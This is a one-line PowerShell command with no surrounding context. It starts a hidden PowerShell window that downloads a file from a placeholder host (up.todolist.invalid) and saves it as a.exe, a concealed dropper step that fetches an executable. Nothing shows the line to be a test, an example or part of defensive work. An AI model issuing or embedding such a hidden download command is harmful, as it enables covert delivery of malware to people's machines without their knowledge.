Start-Process powershell -WindowStyle Hidden -ArgumentList "-Command Invoke-WebRequest https://up.todolist.invalid/a -OutFile a.exe"
